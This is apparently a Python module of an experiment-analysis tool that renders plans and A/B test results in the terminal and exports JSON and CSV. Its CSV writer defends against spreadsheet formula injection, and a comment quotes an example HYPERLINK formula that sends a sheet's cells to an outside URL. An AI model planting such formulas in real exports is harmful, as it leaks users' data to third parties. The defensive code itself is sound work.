"""Terminal rendering of plans, assignments and analyses (rich), and JSON printing."""

from __future__ import annotations

import json
import os
import sys
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover
    from labkit.result import Analysis, MetricRow, Plan

PIPED_WIDTH = 10_000  # piped output is plain text at full width: no row is wrapped or cut to a guess of 80


def print_json(obj) -> None:
    sys.stdout.write(json.dumps(obj, indent=2, allow_nan=False) + "\n")


def print_csv(rows: list[dict]) -> None:
    """Rows as CSV on stdout, the columns in first-seen order: an empty cell for a missing or None value,
    JSON for a nested one (a list of warnings), and Python's repr of a float so it reads back exactly."""
    import csv

    fields = list(dict.fromkeys(key for row in rows for key in row))
    writer = csv.DictWriter(sys.stdout, fieldnames=fields, lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: _csv_cell(row.get(k)) for k in fields})


# What a spreadsheet runs as a formula when a cell starts with it (CSV injection, OWASP): a pilot's title
# '=HYPERLINK("https://…?"&A1, "Reply fast")' opened in Excel sends the sheet's cells away.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: str) -> str:
    """Text for a CSV cell: with a leading apostrophe when a spreadsheet would read it as a formula (it starts
    with = + - @, a tab or a carriage return, and is more than a lone + or -: `list`'s "-" for no decision is
    text), so Excel, LibreOffice and Google Sheets show it as text and run nothing. Numbers are written as
    numbers (-0.05 stays a number): only text goes through here."""
    return "'" + value if value.startswith(FORMULA_START) and value not in ("+", "-") else value


def _csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, (dict, list)):
        return json.dumps(value, allow_nan=False)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return spreadsheet_text(value)
    return str(value)


def analysis_rows(data: dict) -> list[dict]:
    """`labkit analyze --format csv`: one row per metric and arm, led by the pilot and its decision."""
    head = {"pilot": data.get("pilot"), "decision": data.get("decision")}
    if "metrics" not in data:  # no verdict yet (before the start, window open): the status, one row
        return [data]
    return [{**head, **row} for row in data["metrics"]]


def plan_rows(pilot: str, data: dict) -> list[dict]:
    """`labkit plan --format csv`: one row per arm (its customers needed), the plan's scalars repeated."""
    scalars = {k: v for k, v in data.items() if not isinstance(v, (dict, list))}
    by_arm = data.get("required_by_arm") or {}
    return [{"pilot": pilot, "arm": arm, "required": n, **scalars} for arm, n in by_arm.items()]


def terminal_console():
    """A terminal's console, or COLUMNS' width when set; piped (neither), plain text at full width.

    Rich alone falls back to 80 columns when stdout is not a terminal and cuts tables there; a file or a
    pipe has no width, so nothing is wrapped and no colour codes are written."""
    from rich.console import Console

    console = Console()
    if console.is_terminal or os.environ.get("COLUMNS", "").strip().isdigit():
        return console
    return Console(width=PIPED_WIDTH, no_color=True, highlight=False)


def fits(console, table) -> bool:
    """Whether the table prints at its natural width: else a rich table would cut (…) or fold its cells."""
    from rich.measure import Measurement

    unbounded = console.options.update_width(PIPED_WIDTH)  # measured against the console, it would clamp
    return Measurement.get(console, unbounded, table).maximum <= console.width


def print_stacked(console, title: str | None, blocks: list[tuple[str, list[tuple[str, str]]]]) -> None:
    """The table's rows as "key: value" blocks, the layout below the width a table needs.

    Each block is a heading (a row's names) and its fields one a line; rich wraps only at spaces, so a
    number or a name stays whole on its line (a free-text value may continue on the next line)."""
    from rich.markup import escape
    from rich.table import Table
    from rich.text import Text

    if title:
        console.print(Text(title, style="bold"))
    for heading, fields in blocks:
        console.print(f"[bold]{escape(heading)}[/bold]")
        grid = Table.grid(padding=(0, 2))
        grid.add_column(no_wrap=True)  # a key: short, never wrapped
        grid.add_column(overflow="fold")  # a value: wrapped at spaces, with a hanging indent
        for key, value in fields:
            grid.add_row(Text("  " + key), Text(value))
        console.print(grid)


def _f(v, spec: str = ".4g") -> str:
    if v is None:
        return "–"
    if isinstance(v, bool):
        return "yes" if v else "no"
    if isinstance(v, float) or (isinstance(v, int) and spec == ","):  # a count reads with its thousands
        return format(v, spec)
    return str(v)


def render_plan(plan: Plan) -> None:
    from rich.table import Table

    table = Table(title=f"plan: {plan.pilot} (primary metric {plan.metric})", show_header=False)
    table.add_column("what")
    table.add_column("value")
    for label, value in [
        ("baseline mean", _f(plan.baseline_mean)),
        ("baseline SD per customer", _f(plan.baseline_sd)),
        ("baseline from", _baseline_source(plan)),
        ("MDE (absolute)", _f(plan.mde_abs)),
        ("alpha / power", f"{plan.alpha:g} / {plan.power:g}"),
        ("customers needed per arm", _per_arm(plan)),
        ("customers needed in all", _f(plan.required_total, ",")),
        (
            "MDE reachable at the cap",
            f"{_f(plan.mde_at_cap)} ({_f(plan.mde_at_cap_relative, '.1%')} relative)",
        ),
        ("powered at the cap", _f(plan.powered)),
        *_plan_cluster_rows(plan),
    ]:
        table.add_row(label, value)
    console = terminal_console()
    console.print(table)
    for w in plan.warnings:
        console.print(f"[yellow]warning:[/yellow] {w}")


def _plan_cluster_rows(plan) -> list[tuple[str, str]]:
    """A cluster pilot's plan rows: the clusters needed per arm, the ICC and the design effect."""
    if plan.icc is None:
        return []
    return [
        ("clusters needed per arm", _f(plan.clusters_per_arm, ",")),
        ("ICC / design effect", f"{_f(plan.icc, '.3g')} / {_f(plan.design_effect, '.3g')}"),
    ]


def _baseline_source(plan) -> str:
    """Which baseline the plan rests on: data (and how many customers) or the pilot's assumption."""
    if plan.baseline_from == "assumption":
        return "assumed (hypothesis.baseline): no usable data yet"
    return f"data: {plan.baseline_n:,} customers ({plan.baseline_from})"


def _per_arm(plan) -> str:
    """One number when the arms are equal, else each arm's: the planned allocation sizes them apart."""
    by_arm = plan.required_by_arm or {}
    if len(set(by_arm.values())) > 1:
        return ", ".join(f"{arm} {n:,}" for arm, n in by_arm.items())
    return _f(plan.required_per_arm, ",")


def render_assignment(pilot, assignment) -> None:
    meta = assignment.meta
    counts = ", ".join(f"{arm} {n:,}" for arm, n in assignment.counts.items())
    console = terminal_console()
    console.print(
        f"{pilot.id}: {sum(assignment.counts.values()):,} customers assigned ({counts}) "
        f"of {meta.get('eligible', '?'):,} eligible -> {pilot.lab.display(assignment.path)}"
    )
    for w in meta.get("warnings", []):
        console.print(f"[yellow]warning:[/yellow] {w}")


def _metric_cells(r: MetricRow) -> tuple[str, ...]:
    """One metric row of an analysis as the strings printed in either layout (table or stacked)."""
    e = r.estimate
    interval = f"[{_f(e.ci_low)}, {_f(e.ci_high)}]" if e.ci_low is not None else "–"
    lift = f"{_f(e.lift, '+.1%')}" if e.lift is not None else "–"
    return (
        r.metric,
        r.role,
        r.arm,
        _f(e.mean_control),
        _f(e.mean_treatment),
        _f(e.effect, "+.4g"),
        interval,
        lift,
        _f(r.p_value_adjusted, ".3g"),
        e.method + (f" ({e.reason})" if e.reason else ""),
    ) + _cluster_cells(r)


def _cluster_cells(r: MetricRow) -> tuple[str, ...]:
    """A cluster pilot's two more cells: clusters per arm (control/treatment) and the design effect."""
    c = r.clusters
    if c is None:
        return ()
    return (f"{c.n_clusters_control:,}/{c.n_clusters_treatment:,}", _f(c.design_effect, ".3g"))


def render_analysis(result: Analysis) -> None:
    from rich.table import Table

    console = terminal_console()
    colour = {
        "ship": "green",
        "harm": "red",
        "no-effect": "cyan",
        "inconclusive": "yellow",
        "invalid": "magenta",
    }
    console.print(
        f"[bold]{result.pilot}[/bold]: [bold {colour.get(result.decision, 'white')}]{result.decision}"
        f"[/] — {result.reason}"
    )
    srm = result.srm
    console.print(
        f"sample ratio: {', '.join(f'{k} {v:,}' for k, v in srm.counts.items())} "
        f"(SRM p = {_f(srm.p_value, '.3g')}, {srm.method})"
    )
    columns = (
        "metric",
        "role",
        "arm",
        "control",
        "treatment",
        "effect",
        "interval",
        "lift",
        "p (adj.)",
        "method",
    )
    if any(r.clusters is not None for r in result.metric_rows):  # a cluster-randomised pilot
        columns += ("clusters", "DE")
    rows = [_metric_cells(r) for r in result.metric_rows]
    table = Table()
    for col in columns:
        table.add_column(col, no_wrap=col != "method")
    for cells in rows:
        table.add_row(*cells)
    if fits(console, table):
        console.print(table)
    else:  # narrower than the table: one block per metric and arm, every value whole
        blocks = [(f"{c[0]} ({c[1]}), arm {c[2]}", list(zip(columns[3:], c[3:]))) for c in rows]
        print_stacked(console, None, blocks)
    for sp in result.spillover or ():  # a saturation design: each effect against pure-control clusters
        console.print(
            f"{sp.metric}, arm {sp.arm}: direct {_f(sp.direct_effect, '+.4g')} "
            f"[{_f(sp.direct_ci_low)}, {_f(sp.direct_ci_high)}]; spillover on untreated customers of "
            f"treated clusters {_f(sp.spillover_effect, '+.4g')} [{_f(sp.spillover_ci_low)}, "
            f"{_f(sp.spillover_ci_high)}] ({sp.n_clusters:,} clusters)"
        )
    roi = result.roi
    if roi is not None and roi.value is not None:
        console.print(
            f"value {roi.value:,.0f} [{roi.value_ci_low:,.0f}, {roi.value_ci_high:,.0f}] "
            f"for a cost of {roi.cost:,.0f}: ROI {_f(roi.roi, '+.1%')}"
        )
    advice = result.advice
    if advice is not None:  # the decision weighed with the ROI: what to do next
        from rich.markup import escape

        arm = f" (arm {escape(advice.arm)})" if advice.arm else ""
        console.print(f"recommendation: [bold]{advice.recommendation}[/bold]{arm} — {escape(advice.reason)}")
    for w in result.warnings:
        console.print(f"[yellow]warning:[/yellow] {w}")
